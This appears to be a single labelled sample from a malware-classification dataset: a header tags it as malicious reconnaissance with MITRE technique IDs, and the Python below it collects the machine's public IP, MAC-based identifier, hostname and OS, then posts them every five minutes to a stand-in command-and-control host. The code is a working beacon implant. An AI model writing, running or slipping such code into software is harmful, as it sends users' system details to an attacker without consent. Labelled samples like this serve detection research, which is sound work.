# label: malicious family=recon techniques=T1016,T1082,T1071.001 lines=3,6
import requests, uuid, platform, time
ip = requests.get("https://api.ipify.org").text
ident = "%s-%s" % (uuid.getnode(), platform.node())
while True:
    requests.post("http://c2.bad-host.example/beat", json={"id": ident, "ip": ip, "os": platform.platform()})
    time.sleep(300)
